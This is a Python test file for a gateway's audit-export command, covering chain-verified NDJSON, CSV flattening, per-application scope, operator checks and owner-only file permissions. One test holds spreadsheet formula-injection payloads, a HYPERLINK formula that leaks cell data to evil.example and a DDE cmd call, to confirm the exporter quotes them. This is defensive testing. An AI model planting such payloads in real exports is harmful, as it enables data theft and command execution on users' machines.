"""`gateway audit export`: NDJSON that verifies offline by the chain, flattened CSV that a
spreadsheet will not run, owner-only files, and an active application's scope with --as; the export
is itself audited, naming its operator, scope and filter."""

from __future__ import annotations

import csv
import io
import json
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import update

from audit import AuditRecord
from audit.chain import chain_hash
from audit.query import CSV_COLUMNS
from store import tables as t
from tests.support import Gateway

MZ_READS_GA = '{ person(idNumber: "%s") { name mobile } }'
MZ_READS_FG = '{ person(idNumber: "%s") { dishonestDebtor } }'
OPERATOR = "sj-zhoumin"


def gateway_cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "gateway", *args], capture_output=True, text=True, timeout=120)


@pytest.fixture
async def traffic(gateway: Gateway) -> list[dict[str, Any]]:
    await gateway.query(MZ_READS_GA % gateway.sample_id)
    await gateway.query(MZ_READS_FG % gateway.sample_id)
    await gateway.query('{ enterprise(creditCode: "%s") { creditRating } }' % gateway.sample_code, app_id="fg-credit",
                        purpose="MARKET_SUPERVISION")
    await gateway.query('{ enterprise(creditCode: "%s") { name } }' % gateway.sample_code, app_id="scjg-licensing",
                        purpose="WORK_REFERENCE")
    records: list[dict[str, Any]] = await gateway.runtime.audit.records(limit=1000)
    return records


def export(data_dir: Path, fmt: str, *args: str, operator: str | None = OPERATOR) -> subprocess.CompletedProcess[str]:
    who = ["--operator", operator] if operator is not None else []
    return gateway_cli("audit", "export", "--format", fmt, "--data-dir", str(data_dir), *who, *args)


def ndjson(data_dir: Path, *args: str) -> list[str]:
    result = export(data_dir, "ndjson", *args)
    assert result.returncode == 0, result.stderr
    return result.stdout.splitlines()


async def test_ndjson_export_verifies_offline_by_the_chain(gateway: Gateway, traffic: list[dict[str, Any]],
                                                           data_dir: Path) -> None:
    lines = ndjson(data_dir)
    assert len(lines) == len(traffic) + 1  # and the export's own record, written before any record left
    algorithm = gateway.runtime.audit.algorithm
    prev = "0" * 64
    for line in lines:
        row = json.loads(line)
        assert list(row) == ["seq", "hash", "prev_hash", "record"]
        raw = line[line.index('"record":') + len('"record":'):-1]  # the stored bytes, verbatim
        assert raw == json.dumps(row["record"], sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        assert row["prev_hash"] == prev and chain_hash(prev, raw.encode(), algorithm) == row["hash"]
        prev = row["hash"]
    assert json.loads(lines[-1])["record"]["operation"] == "audit.export"
    assert [json.loads(line)["seq"] for line in lines] == sorted(json.loads(line)["seq"] for line in lines)


async def test_csv_export_flattens_each_record(gateway: Gateway, traffic: list[dict[str, Any]], data_dir: Path) -> None:
    out = data_dir / "audit.csv"
    result = export(data_dir, "csv", "--application", "mz-assistance", "--out", str(out))
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert tuple(rows[0]) == CSV_COLUMNS
    records = [dict(zip(CSV_COLUMNS, r, strict=True)) for r in rows[1:]]
    assert {r["application"] for r in records} == {"mz-assistance"} and len(records) == 2
    ga = next(r for r in records if "Person.mobile" in r["fields"])
    assert ga["fields"] == "Person.mobile=RAW;Person.name=RAW" and ga["rows"] == "1-01-001-001/000001=1"
    assert ga["grants"] == "G-MZ-0001" and ga["department"] == "MZ" and ga["purpose"] == "SOCIAL_ASSISTANCE_REVIEW"
    assert int(ga["seq"]) > 0 and len(ga["hash"]) == 64


async def test_export_as_an_application_applies_its_scope(gateway: Gateway, traffic: list[dict[str, Any]],
                                                          data_dir: Path) -> None:
    records = [json.loads(line)["record"] for line in ndjson(data_dir, "--as", "fg-credit")]
    fields = [set(r["fields"]) for r in records]
    assert {"Person.dishonestDebtor"} in fields  # MZ's use of FG's resource
    assert {"Person.name", "Person.mobile"} not in fields  # MZ's use of GA's: not FG's business
    assert {r["department"] for r in records} == {"MZ", "FG"}
    assert records[-1]["operation"] == "audit.export" and records[-1]["application"] == "fg-credit"
    auditor = next(a["application"] for a in gateway.credentials["admins"] if a["role"] == "AUDITOR")
    assert len(ndjson(data_dir, "--as", auditor)) > len(records)  # an auditor's export holds every record


async def test_export_filters_by_time_and_refuses_what_it_cannot_use(gateway: Gateway, traffic: list[dict[str, Any]],
                                                                     data_dir: Path) -> None:
    assert ndjson(data_dir, "--to", "2020-01-01") == []
    assert len(ndjson(data_dir, "--from", "2020-01-01", "--department", "MZ")) == 2
    unknown = export(data_dir, "ndjson", "--as", "nobody")
    assert unknown.returncode == 2 and "no application 'nobody'" in unknown.stderr
    bad = export(data_dir, "ndjson", "--from", "soon")
    assert bad.returncode == 2 and "not an ISO date" in bad.stderr


async def test_export_refuses_an_inactive_application(gateway: Gateway, traffic: list[dict[str, Any]],
                                                      data_dir: Path) -> None:
    async with gateway.runtime.store_engine.begin() as conn:
        await conn.execute(update(t.applications).where(t.applications.c.id == "fg-credit").values(active=False))
    result = export(data_dir, "ndjson", "--as", "fg-credit")
    assert result.returncode == 2 and "inactive application 'fg-credit'" in result.stderr and result.stdout == ""
    assert (await gateway.runtime.audit.records(limit=1))[0]["operation"] != "audit.export"


async def test_export_names_its_operator_scope_and_filter(gateway: Gateway, traffic: list[dict[str, Any]],
                                                          data_dir: Path) -> None:
    lines = ndjson(data_dir, "--as", "fg-credit", "--from", "2024-05-01", "--department", "MZ")
    [record] = await gateway.runtime.audit.records(limit=1)
    assert record["operation"] == "audit.export" and record["operator"] == OPERATOR
    assert (record["application"], record["department"]) == ("fg-credit", "FG")
    assert record["fields"] == {"export:format": "ndjson", "export:scope": "department:FG",
                                "export:from": "2024-04-30T16:00:00+00:00", "export:department": "MZ"}
    assert lines and all(json.loads(line)["record"]["department"] == "MZ" for line in lines)
    ndjson(data_dir)
    [full] = await gateway.runtime.audit.records(limit=1)
    assert full["fields"] == {"export:format": "ndjson", "export:scope": "everything"} and full["operator"] == OPERATOR


@pytest.mark.parametrize("operator", [None, "nobody", "rs-liuyang"])
async def test_export_needs_a_registered_active_operator(gateway: Gateway, traffic: list[dict[str, Any]],
                                                         data_dir: Path, operator: str | None) -> None:
    async with gateway.runtime.store_engine.begin() as conn:
        await conn.execute(update(t.operators).where(t.operators.c.id == "rs-liuyang").values(active=False))
    result = export(data_dir, "ndjson", operator=operator)
    assert result.returncode == 2 and result.stdout == "" and "--operator" in result.stderr
    assert (await gateway.runtime.audit.records(limit=1))[0]["operation"] != "audit.export"  # nothing left, nothing noted


async def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(gateway: Gateway, data_dir: Path) -> None:
    await gateway.runtime.audit.append(AuditRecord(
        request_id="+1+1", at="2024-05-01T00:00:00+00:00", operation="query", outcome="REFUSED",
        application="-2+3", operator='=HYPERLINK("http://evil.example/?"&A1)', purpose="@SUM(A1:A9)",
        department="\tMZ", code="\r=1", fields={"=cmd|' /C calc'!A0": "RAW"}))
    out = data_dir / "audit.csv"
    assert export(data_dir, "csv", "--out", str(out), "--to", "2024-05-01").returncode == 0
    with out.open(encoding="utf-8", newline="") as handle:  # newline="": a quoted CR stays a CR
        [row] = [dict(zip(CSV_COLUMNS, r, strict=True)) for r in list(csv.reader(handle))[1:]]
    assert row["request_id"] == "'+1+1" and row["application"] == "'-2+3" and row["purpose"] == "'@SUM(A1:A9)"
    assert row["operator"] == '\'=HYPERLINK("http://evil.example/?"&A1)' and row["department"] == "'\tMZ"
    assert row["code"] == "'\r=1" and row["fields"] == "'=cmd|' /C calc'!A0=RAW"
    assert row["outcome"] == "REFUSED" and row["at"].startswith("2024")  # ordinary cells are left alone


@pytest.mark.parametrize("fmt", ["csv", "ndjson"])
async def test_export_files_are_readable_by_their_owner_only(gateway: Gateway, data_dir: Path, fmt: str) -> None:
    fresh, existing = data_dir / f"fresh.{fmt}", data_dir / f"existing.{fmt}"
    existing.write_text("old contents that were world-readable\n")
    existing.chmod(0o644)
    for out in (fresh, existing):
        assert export(data_dir, fmt, "--out", str(out)).returncode == 0
        assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert "world-readable" not in existing.read_text()
